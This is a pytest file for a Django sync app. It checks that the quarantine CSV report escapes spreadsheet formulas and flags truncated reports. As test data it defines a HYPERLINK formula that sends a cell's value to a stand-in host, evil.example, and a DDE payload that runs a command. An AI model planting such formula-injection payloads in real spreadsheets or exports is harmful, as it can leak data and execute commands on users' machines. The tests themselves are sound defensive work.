"""apps.sync.selectors: the quarantine report as a spreadsheet opens it (no formulas), and what
it says when it lists only part of the rejected rows."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from apps.sync import engine, selectors
from apps.sync.models import SyncRejection, SyncRun
from apps.sync.selectors import run_quarantine_csv
from apps.sync.services import sync_config_set, sync_upload_store
from tests.sync.helpers import population_rows, write_csv

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture(autouse=True)
def _own_media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def _report(run: SyncRun) -> list[list[str]]:
    text = "".join(run_quarantine_csv(run=run))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.mark.parametrize("fast_path", [True, False], ids=["arrow", "python"])
def test_formulas_in_rejected_values_are_neutralised_in_the_quarantine_report(
    world, tmp_path, settings, fast_path
):
    """Exploratory finding P6: `=HYPERLINK(...)` and DDE payloads reached Excel as formulas."""
    settings.GOVDATA = {**settings.GOVDATA, "SYNC_FAST_PATH": fast_path}
    rows = population_rows(20)
    rows[0] = {**rows[0], "mobile": HYPERLINK}
    rows[1] = {**rows[1], "mobile": DDE}
    sync_config_set(dataset=world.dataset, kind="csv", reject_threshold=0.5)
    data = write_csv(tmp_path / "p.csv", rows).read_bytes()
    run = sync_upload_store(
        dataset=world.dataset, upload=SimpleUploadedFile("p.csv", data), enqueue=False
    )
    run = engine.run_execute(run_id=run.pk)
    assert run.status == SyncRun.Status.SUCCEEDED, run.error
    report = _report(run)
    assert report[1] == ["2", "mobile", "not a mainland mobile number", "'" + HYPERLINK]
    assert report[2] == ["3", "mobile", "not a mainland mobile number", "'" + DDE]
    for row in report:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_every_text_column_is_neutralised_not_only_the_value(world):
    run = _stored_run(world, rejected=1, listed=1)
    SyncRejection.objects.create(run=run, row_number=2, field="-x", reason="=cause", value="@v")
    assert _report(run)[1] == ["2", "'-x", "'=cause", "'@v"]


def _stored_run(world, *, rejected: int, listed: int) -> SyncRun:
    from apps.common import clock

    config = sync_config_set(dataset=world.dataset, kind="csv")
    return SyncRun.objects.create(
        dataset=world.dataset, config=config, status="failed", trigger="upload", mode="full",
        kind="csv", rows_read=rejected, rows_rejected=rejected, rejections_listed=listed,
        created_at=clock.now(),
    )  # fmt: skip


def test_a_report_cut_at_the_limit_says_so_on_its_last_line(world, tmp_path, monkeypatch):
    """Exploratory finding P19: the report stopped at 20,000 rows without a word."""
    monkeypatch.setattr(engine, "MAX_STORED_REJECTIONS", 3)
    monkeypatch.setattr(selectors, "MAX_STORED_REJECTIONS", 3)
    rows = [{**row, "mobile": "999"} for row in population_rows(5)]
    sync_config_set(dataset=world.dataset, kind="csv", reject_threshold=1.0)
    data = write_csv(tmp_path / "p.csv", [*rows, *population_rows(3, seed=8)]).read_bytes()
    run = sync_upload_store(
        dataset=world.dataset, upload=SimpleUploadedFile("p.csv", data), enqueue=False
    )
    run = engine.run_execute(run_id=run.pk)
    assert (run.rows_rejected, run.rejections_listed) == (5, 3)
    report = _report(run)
    assert [r[0] for r in report[1:-1]] == ["2", "3", "4"]
    assert report[-1] == [
        "",
        "",
        "The report lists 3 of the 5 rejected rows: the platform keeps at most 3 quarantined "
        "values per run.",
        "",
    ]


def test_a_complete_report_has_no_note(world):
    run = _stored_run(world, rejected=1, listed=1)
    SyncRejection.objects.create(run=run, row_number=2, field="mobile", reason="x", value="1")
    assert len(_report(run)) == 2
